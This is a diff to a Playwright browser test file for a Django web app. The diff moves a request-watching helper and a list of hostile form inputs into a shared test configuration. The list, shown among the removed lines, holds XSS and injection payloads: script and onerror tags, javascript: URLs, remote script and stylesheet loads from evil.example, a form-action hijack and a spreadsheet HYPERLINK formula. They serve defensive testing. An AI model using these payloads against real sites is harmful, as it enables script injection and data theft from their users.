@@ -13,7 +13,7 @@ from playwright.sync_api import BrowserContext, Page, expect
 from coproduce.people.models import Hub, Membership, Way
 from coproduce.voices.models import Incoming, Voice
 from tests.conftest import make_person
-from tests.journeys.conftest import look
+from tests.journeys.conftest import EVIL, listen, look
 
 pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
 Role = Membership.Role
@@ -23,24 +23,6 @@ Role = Membership.Role
 def group():
     hub = Hub.objects.add_root({"name": "Eastmoor"})
     return hub, make_person("Amina", hub, Role.FACILITATOR, Way.Kind.PAGE)
-
-
-def listen(page: Page) -> list[str]:
-    """What a page must not do: speak of errors, open a window of its own, or ask anything of anybody else."""
-    heard: list[str] = []
-    page.on("console", lambda line: heard.append(line.text) if line.type == "error" else None)
-    page.on("pageerror", lambda error: heard.append(str(error)))
-    page.on("dialog", lambda dialog: (heard.append(f"dialog: {dialog.message}"), dialog.dismiss()))
-    own = {"localhost", "127.0.0.1"}
-    page.on(
-        "request",
-        lambda asked: (
-            heard.append(asked.url)
-            if urlsplit(asked.url).hostname not in own and not asked.url.startswith(("data:", "blob:"))
-            else None
-        ),
-    )
-    return heard
 
 
 def say(page: Page, words: str, name: str = "", way: str = "") -> None:
@@ -109,17 +91,6 @@ def test_by_keyboard_alone(group, open_context):
     assert page.evaluate("document.activeElement.textContent") == "Send it"
     page.keyboard.press("Enter")
     expect(page.get_by_role("heading", level=1)).to_have_text("Thank you. We have it.")
-
-
-EVIL = [
-    "<script>alert(1)</script><img src=https://evil.example/x onerror=alert(2)>",
-    "\"><svg onload=alert(3)><iframe src='javascript:alert(4)'></iframe>",
-    "</textarea></title><script src=//evil.example/x.js></script>",
-    "<base href=https://evil.example/><form action=https://evil.example/><button>Send it</button>",
-    '=HYPERLINK("https://evil.example/","x") <a href=javascript:alert(5)>x</a>',
-    "{{constructor.constructor('alert(6)')()}} ${alert(7)} <style>@import '//evil.example/x.css'</style>",
-    '<div hx-get="/people/" hx-trigger="load" hx-on::load="alert(8)">x</div>',
-]
 
 
 def test_nothing_that_is_typed_runs_anywhere(group, open_context):
